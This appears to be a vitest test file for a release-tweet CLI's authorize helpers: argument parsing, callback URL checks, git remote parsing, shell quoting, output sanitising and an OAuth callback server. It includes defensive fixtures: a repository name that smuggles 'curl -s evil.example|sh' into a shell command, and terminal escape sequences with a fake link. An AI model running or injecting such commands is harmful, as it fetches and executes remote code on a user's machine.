// Unit tests of the authorize command's helpers: arguments, git remotes, browser choice, prompts, callback server.
import { createServer } from "node:net";
import { PassThrough } from "node:stream";
import { afterEach, describe, expect, it, vi } from "vitest";
import { ReleaseTweetError } from "../../src/core/errors.js";
import { ghSecretSetCommand } from "../../src/cli/authorize.js";
import { readAuthorizeOptions } from "../../src/cli/authorize-options.js";
import { browserCommand } from "../../src/cli/browser.js";
import {
  parseCallbackUrl,
  startCallbackServer,
  type CallbackNotice,
  type CallbackServer,
  type Redemption,
} from "../../src/cli/callback-server.js";
import { parseGitHubRemote } from "../../src/cli/git-remote.js";
import { standardIo } from "../../src/cli/io.js";
import { createPrompter } from "../../src/cli/prompt.js";

function thrown(fn: () => unknown): ReleaseTweetError {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(ReleaseTweetError);
    return error as ReleaseTweetError;
  }
  throw new Error("expected a throw");
}

describe("readAuthorizeOptions", () => {
  it("reads flags and environment", () => {
    const options = readAuthorizeOptions(
      ["--repo", "octo/app", "--env", "prod", "--callback", "http://127.0.0.1:8976/cb", "--timeout", "20"],
      { GH_TOKEN: "gho_x", TWITTER_API_KEY: "k", TWITTER_API_BASE_URL: "http://127.0.0.1:9/", GITHUB_API_URL: "https://ghe.example/api/v3" },
    );
    expect(options).toMatchObject({
      repo: "octo/app",
      environment: "prod",
      timeoutMs: 20_000,
      xBaseUrl: "http://127.0.0.1:9",
      githubApiUrl: "https://ghe.example/api/v3",
      github: { token: "gho_x", name: "GH_TOKEN" },
      consumer: { apiKey: "k", apiSecret: undefined },
    });
    expect(options.callback?.href).toBe("http://127.0.0.1:8976/cb");
  });

  it("prefers GITHUB_TOKEN over GH_TOKEN and treats blank values as unset", () => {
    expect(readAuthorizeOptions([], { GITHUB_TOKEN: "a", GH_TOKEN: "b" }).github?.name).toBe("GITHUB_TOKEN");
    expect(readAuthorizeOptions([], { GITHUB_TOKEN: "  ", GH_TOKEN: "" }).github).toBeUndefined();
    expect(readAuthorizeOptions([], {}).xBaseUrl).toBe("https://api.x.com");
  });

  it.each([
    [["--repo", "not-a-repo"], "EREPO"],
    [["--timeout", "5"], "EUSAGE"],
    [["--callback", "http://127.0.0.1:1/x", "--timeout", "0"], "EUSAGE"],
    [["--callback", "http://127.0.0.1:1/x", "--timeout", "1.5"], "EUSAGE"],
    [["--bogus"], "EUSAGE"],
    [["stray"], "EUSAGE"],
    [["--callback", "https://127.0.0.1:1/x"], "ECALLBACKURL"],
  ])("rejects %j with %s", (argv, code) => {
    expect(thrown(() => readAuthorizeOptions(argv, {})).code).toBe(code);
  });

  it.each([
    [["--network", "x"], { TWITTER_API_BASE_URL: "http://api.x.com" }, "EINVALIDAPIBASEURL"],
    [["--network", "bluesky"], { BLUESKY_SERVICE: "ftp://bsky.social" }, "EINVALIDBLUESKYSERVICE"],
    [["--network", "mastodon", "--instance", "http://mastodon.social"], {}, "EMASTODONURL"],
  ])("refuses %j with %j as %s, the code the Action and the plugin give that setting", (argv, env, code) => {
    expect(thrown(() => readAuthorizeOptions(argv, env)).code).toBe(code);
  });

  it("rejects an API URL with credentials without repeating it", () => {
    const error = thrown(() => readAuthorizeOptions([], { GITHUB_API_URL: "https://user:ghp_secret@ghe.example" }));
    expect(error.code).toBe("EURL");
    expect(error.summary).not.toContain("ghp_secret");
  });

  it.each(["http://ghe.example/api/v3", "http://10.0.0.5/api/v3", "ftp://ghe.example", "https://ghe.example/api/v3?x=1"])(
    "refuses GITHUB_API_URL %s: https only, plain http only to loopback",
    (url) => {
      const error = thrown(() => readAuthorizeOptions([], { GITHUB_API_URL: url }));
      expect(error.code).toBe("EURL");
      expect(error.message).toMatch(/^GITHUB_API_URL must /);
    },
  );

  it.each([
    ["http://127.0.0.1:8080/", "http://127.0.0.1:8080"],
    ["http://localhost:3000/api/v3", "http://localhost:3000/api/v3"],
    ["https://ghe.example/api/v3/", "https://ghe.example/api/v3"],
  ])("accepts GITHUB_API_URL %s", (url, expected) => {
    expect(readAuthorizeOptions([], { GITHUB_API_URL: url }).githubApiUrl).toBe(expected);
  });

  it("answers --help even with a broken environment", () => {
    expect(readAuthorizeOptions(["--help"], { TWITTER_API_BASE_URL: "nope" }).help).toBe(true);
  });
});

describe("parseCallbackUrl", () => {
  it.each(["http://127.0.0.1:8976/callback", "http://[::1]:8976/cb/", "http://127.0.0.1:1/"])("accepts %s", (url) => {
    expect(parseCallbackUrl(url).href).toBe(url);
  });
  it.each([
    ["https://127.0.0.1:8976/cb", /http:\/\//],
    ["http://localhost:8976/cb", /127\.0\.0\.1.*localhost/],
    ["http://example.com:8976/cb", /127\.0\.0\.1/],
    ["http://10.0.0.1:8976/cb", /127\.0\.0\.1/],
    ["http://127.0.0.1/cb", /explicit port/],
    ["http://127.0.0.1:1/cb?x=1", /query/],
    ["not a url", /not a URL/],
  ])("rejects %s", (url, message) => {
    const error = thrown(() => parseCallbackUrl(url));
    expect(error.code).toBe("ECALLBACKURL");
    expect(error.message).toMatch(message);
  });
});

describe("parseGitHubRemote", () => {
  it.each([
    ["https://github.com/octo/app.git", "github.com", "octo/app"],
    ["https://github.com/octo/app", "github.com", "octo/app"],
    ["https://github.com/octo/app/", "github.com", "octo/app"],
    ["https://x-access-token:ghp_abc@github.com/octo/app.git\n", "github.com", "octo/app"],
    ["git@github.com:octo/app.git", "github.com", "octo/app"],
    ["github.com:octo/app", "github.com", "octo/app"],
    ["ssh://git@github.com/octo/app.git", "github.com", "octo/app"],
    ["ssh://git@ghe.corp.example:2222/team/tool.git", "ghe.corp.example", "team/tool"],
    ["git@GHE.corp.example:team/tool.js.git", "ghe.corp.example", "team/tool.js"],
  ])("%s", (remote, host, repo) => {
    expect(parseGitHubRemote(remote)).toEqual({ host, repo });
  });
  it.each(["", "/local/path/repo", "https://github.com/octo", "https://github.com/a/b/c", "file:///tmp/x"])("ignores %j", (remote) => {
    expect(parseGitHubRemote(remote)).toBeUndefined();
  });
});

describe("ghSecretSetCommand", () => {
  it("quotes the repository and environment for the shell, and leaves plain ones as they are", () => {
    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: "octo/app.js", environment: "prod" })).toBe(
      "gh secret set TWITTER_API_KEY --repo octo/app.js --env prod",
    );
    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: undefined })).toBe("gh secret set TWITTER_API_KEY --repo OWNER/NAME");
    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: "x/b; curl -s evil.example|sh", environment: "it's" })).toBe(
      "gh secret set TWITTER_API_KEY --repo 'x/b; curl -s evil.example|sh' --env 'it'\\''s'",
    );
  });
});

describe("standardIo", () => {
  afterEach(() => {
    vi.restoreAllMocks();
  });

  function written(stream: NodeJS.WriteStream, write: (io: ReturnType<typeof standardIo>) => void): string {
    let text = "";
    vi.spyOn(stream, "write").mockImplementation((chunk: string | Uint8Array) => ((text += String(chunk)), true));
    write(standardIo());
    vi.restoreAllMocks();
    return text;
  }

  it("removes terminal control sequences (ESC, OSC 8 links, BEL, CR, C1) from stdout and stderr", () => {
    const hostile = "Authorized as @\u001b]8;;https://evil/\u0007x\u001b]8;;\u0007 \u001b[2J\rfake\u009b31m";
    for (const stream of [process.stdout, process.stderr]) {
      const text = written(stream, (io) => (stream === process.stdout ? io.out(hostile) : io.err(hostile)));
      expect(text).toBe("Authorized as @]8;;https://evil/x]8;; [2Jfake31m\n");
      // eslint-disable-next-line no-control-regex -- matching control characters is the point
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    }
  });

  it("leaves ordinary text alone: emoji, CJK, accents, tabs and line breaks", () => {
    const normal = "Release 🎉 v1.2 — 新しいリリース, café\n\tnext line 👩‍💻";
    expect(written(process.stdout, (io) => io.out(normal))).toBe(`${normal}\n`);
    expect(written(process.stderr, (io) => io.err(normal))).toBe(`${normal}\n`);
  });
});

describe("browserCommand", () => {
  const url = "https://api.x.com/oauth/authorize?oauth_token=abc&x=1";
  it("uses BROWSER with the URL appended, or substituted for %s", () => {
    expect(browserCommand(url, { BROWSER: "firefox --new-tab" }, "linux")).toEqual({ command: "firefox", args: ["--new-tab", url] });
    expect(browserCommand(url, { BROWSER: "w3m %s:lynx" }, "linux")).toEqual({ command: "w3m", args: [url] });
  });
  it("falls back to the platform opener, the URL always one argument", () => {
    expect(browserCommand(url, {}, "linux")).toEqual({ command: "xdg-open", args: [url] });
    expect(browserCommand(url, {}, "darwin")).toEqual({ command: "open", args: [url] });
    expect(browserCommand(url, {}, "win32")).toEqual({ command: "rundll32", args: ["url.dll,FileProtocolHandler", url] });
  });
});

describe("createPrompter", () => {
  it("takes successive lines from one piped chunk, CRLF included", async () => {
    const stdin = new PassThrough();
    const errors: string[] = [];
    const prompter = createPrompter({ stdin, err: (t) => errors.push(t) });
    stdin.end("key\r\nsecret\n1234567");
    expect(await prompter.ask("Key:")).toBe("key");
    expect(await prompter.ask("Secret:", { hidden: true })).toBe("secret");
    expect(await prompter.ask("PIN:")).toBe("1234567");
    expect(errors).toEqual(["Key:", "Secret:", "PIN:"]);
    prompter.close();
  });

  it("waits for input that arrives later, and fails clearly when input ends", async () => {
    const stdin = new PassThrough();
    const prompter = createPrompter({ stdin, err: () => undefined });
    const answer = prompter.ask("PIN:");
    setTimeout(() => stdin.write("98"), 10);
    setTimeout(() => stdin.write("76\n"), 20);
    expect(await answer).toBe("9876");
    stdin.end();
    await expect(prompter.ask("more:")).rejects.toMatchObject({ code: "ENOINPUT" });
    prompter.close();
  });

  it("reads a hidden answer on a terminal in raw mode, with backspace, and restores the mode", async () => {
    const modes: boolean[] = [];
    const stdin = Object.assign(new PassThrough(), {
      isTTY: true,
      setRawMode: (raw: boolean) => modes.push(raw),
    });
    const prompter = createPrompter({ stdin, err: () => undefined });
    const answer = prompter.ask("Secret:", { hidden: true });
    stdin.write("sx\u007fecret\r");
    expect(await answer).toBe("secret");
    expect(modes).toEqual([true, false]);
    const cancelled = prompter.ask("Secret:", { hidden: true });
    stdin.write("ab\u0003");
    await expect(cancelled).rejects.toMatchObject({ code: "ECANCELLED" });
    expect(modes).toEqual([true, false, true, false]);
    prompter.close();
  });
});

describe("callback server", () => {
  let server: CallbackServer | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });

  async function freePort(): Promise<number> {
    return new Promise((resolve) => {
      const probe = createServer();
      probe.listen(0, "127.0.0.1", () => {
        const address = probe.address();
        probe.close(() => resolve(typeof address === "object" && address ? address.port : 0));
      });
    });
  }

  /** X's side of the exchange: only `real` is accepted; every verifier tried is recorded. */
  function exchange(real: string, tried: string[] = []) {
    return (verifier: string): Promise<Redemption<string>> => {
      tried.push(verifier);
      return Promise.resolve(verifier === real ? { accepted: true, value: `tokens for ${verifier}` } : { accepted: false });
    };
  }

  /** Settled into a value right away: a rejection may arrive while the test is still fetching. */
  const settled = <T,>(promise: Promise<T>) =>
    promise.then(
      (value) => ({ ok: true as const, value }),
      (error: unknown) => ({ ok: false as const, error }),
    );

  it("ignores other paths and foreign tokens, and resolves with the redirect whose verifier X accepts", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}`;
    server = await startCallbackServer(new URL(`${base}/callback`));
    const tried: string[] = [];
    const result = server.waitForAuthorization("req-token", 5_000, exchange("v123", tried));
    expect((await fetch(`${base}/other?oauth_token=req-token&oauth_verifier=1`)).status).toBe(404);
    expect((await fetch(`${base}/callback?oauth_token=someone-else&oauth_verifier=1`)).status).toBe(400);
    expect((await fetch(`${base}/callback?oauth_token=req-token`)).status).toBe(400);
    const ok = await fetch(`${base}/callback?oauth_token=req-token&oauth_verifier=v123`);
    expect(ok.status).toBe(200);
    expect(await ok.text()).toContain("close this tab");
    expect(await result).toEqual({ value: "tokens for v123", refused: 0, denied: 0 });
    expect(tried).toEqual(["v123"]);
  });

  it("a verifier X refuses does not end the wait: it is counted, reported, and the real one still wins", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}/cb`;
    server = await startCallbackServer(new URL(base));
    const notices: CallbackNotice[] = [];
    const tried: string[] = [];
    const result = server.waitForAuthorization("req-token", 5_000, exchange("real", tried), (n) => notices.push(n));
    const forged = await fetch(`${base}?oauth_token=req-token&oauth_verifier=forged`);
    expect(forged.status).toBe(400);
    expect(await forged.text()).toContain("X did not accept this link");
    // A verifier no X would issue is refused without asking X.
    expect((await fetch(`${base}?oauth_token=req-token&oauth_verifier=${encodeURIComponent("a b\u001b[2J")}`)).status).toBe(400);
    expect((await fetch(`${base}?oauth_token=req-token&oauth_verifier=${"v".repeat(300)}`)).status).toBe(400);
    expect((await fetch(`${base}?oauth_token=req-token&oauth_verifier=real`)).status).toBe(200);
    expect(await result).toEqual({ value: "tokens for real", refused: 3, denied: 0 });
    expect(tried).toEqual(["forged", "real"]);
    expect(notices).toEqual([
      { kind: "refused", refused: 1 },
      { kind: "refused", refused: 2 },
      { kind: "refused", refused: 3 },
    ]);
    // The wait is over: a late redirect is turned away.
    expect((await fetch(`${base}?oauth_token=req-token&oauth_verifier=real`)).status).toBe(400);
  });

  it("a 'denied' redirect does not end the wait; an accepted one later still authorizes", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}/cb`;
    server = await startCallbackServer(new URL(base));
    const notices: CallbackNotice[] = [];
    const result = server.waitForAuthorization("req-token", 5_000, exchange("real"), (n) => notices.push(n));
    expect((await fetch(`${base}?denied=other`)).status).toBe(400);
    const denied = await fetch(`${base}?denied=req-token`);
    expect(denied.status).toBe(200);
    expect(await denied.text()).toContain("keeps waiting");
    expect((await fetch(`${base}?oauth_token=req-token&oauth_verifier=real`)).status).toBe(200);
    expect(await result).toEqual({ value: "tokens for real", refused: 0, denied: 1 });
    expect(notices).toEqual([{ kind: "denied", denied: 1 }]);
  });

  it("a 'denied' redirect and no accepted one: at the timeout, 'denied or timed out' (EXDENIED), with the counts", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}/cb`;
    server = await startCallbackServer(new URL(base));
    const outcome = settled(server.waitForAuthorization("req-token", 300, exchange("real")));
    expect((await fetch(`${base}?denied=req-token`)).status).toBe(200);
    expect((await fetch(`${base}?oauth_token=req-token&oauth_verifier=forged`)).status).toBe(400);
    const result = await outcome;
    expect(result.ok).toBe(false);
    const error = (result as { error: ReleaseTweetError }).error;
    expect(error.code).toBe("EXDENIED");
    expect(error.message).toBe(
      "Authorization was denied or timed out: 1 redirect said it was cancelled on X, and no redirect that X accepts arrived within 0 seconds. " +
        "1 redirect carried a verifier that X refused: they did not come from your authorization.",
    );
    expect(error.fix).toContain("Run release-tweet authorize again");
  });

  it("gives up after the timeout with a clear error, naming refused redirects without their contents", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}/cb`;
    server = await startCallbackServer(new URL(base));
    await expect(server.waitForAuthorization("req-token", 50, exchange("real"))).rejects.toMatchObject({
      code: "ECALLBACKTIMEOUT",
      message: `X did not redirect to ${base} within 0 seconds.`,
    });
    const outcome = settled(server.waitForAuthorization("req-token-2", 300, exchange("real")));
    expect((await fetch(`${base}?oauth_token=req-token-2&oauth_verifier=forged-secretish`)).status).toBe(400);
    const result = await outcome;
    const error = (result as { error: ReleaseTweetError }).error;
    expect(error.code).toBe("ECALLBACKTIMEOUT");
    expect(error.message).toContain("1 redirect carried a verifier that X refused");
    expect(`${error.message} ${error.fix}`).not.toContain("forged-secretish");
  });

  /** A gate a test opens by hand. */
  function gate() {
    let open = (): void => undefined;
    const opened = new Promise<void>((resolve) => (open = resolve));
    return { open, opened };
  }
  const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

  it("exchanges one redirect at a time", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}/cb`;
    server = await startCallbackServer(new URL(base));
    const tried: string[] = [];
    const firstStarted = gate();
    const forgedMayFinish = gate();
    let running = 0;
    let most = 0;
    const held = async (verifier: string): Promise<Redemption<string>> => {
      tried.push(verifier);
      firstStarted.open();
      running++;
      most = Math.max(most, running);
      if (verifier === "forged") await forgedMayFinish.opened;
      running--;
      return verifier === "real" ? { accepted: true, value: verifier } : { accepted: false };
    };
    const result = server.waitForAuthorization("req-token", 5_000, held);
    const forged = fetch(`${base}?oauth_token=req-token&oauth_verifier=forged`);
    await firstStarted.opened;
    const real = fetch(`${base}?oauth_token=req-token&oauth_verifier=real`);
    await pause(100);
    expect(tried).toEqual(["forged"]);
    forgedMayFinish.open();
    expect((await forged).status).toBe(400);
    expect((await real).status).toBe(200);
    expect(await result).toEqual({ value: "real", refused: 1, denied: 0 });
    expect(most).toBe(1);
  });

  it("an exchange under way when the time is up still decides", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}/cb`;
    server = await startCallbackServer(new URL(base));
    const asked = gate();
    const xAnswers = gate();
    const result = server.waitForAuthorization("req-token", 1_000, async (verifier): Promise<Redemption<string>> => {
      asked.open();
      await xAnswers.opened;
      return { accepted: true, value: verifier };
    });
    const real = fetch(`${base}?oauth_token=req-token&oauth_verifier=real`);
    await asked.opened;
    // Registered after the wait's timer and no shorter, so it fires after it: X answers once the time is up.
    await pause(1_000);
    xAnswers.open();
    expect((await real).status).toBe(200);
    expect(await result).toEqual({ value: "real", refused: 0, denied: 0 });
  });

  it("an exchange that fails for another reason (X unreachable) ends the wait with that error", async () => {
    const port = await freePort();
    const base = `http://127.0.0.1:${port}/cb`;
    server = await startCallbackServer(new URL(base));
    const failure = new ReleaseTweetError("EXNETWORK", "Could not reach X.", "Check the network.");
    const outcome = settled(server.waitForAuthorization("req-token", 5_000, () => Promise.reject(failure)));
    expect((await fetch(`${base}?oauth_token=req-token&oauth_verifier=real`)).status).toBe(500);
    expect(await outcome).toEqual({ ok: false, error: failure });
  });

  it("says when the port is taken", async () => {
    const port = await freePort();
    server = await startCallbackServer(new URL(`http://127.0.0.1:${port}/cb`));
    await expect(startCallbackServer(new URL(`http://127.0.0.1:${port}/cb`))).rejects.toMatchObject({
      code: "ECALLBACKPORT",
      message: expect.stringContaining("already in use") as unknown,
    });
  });
});
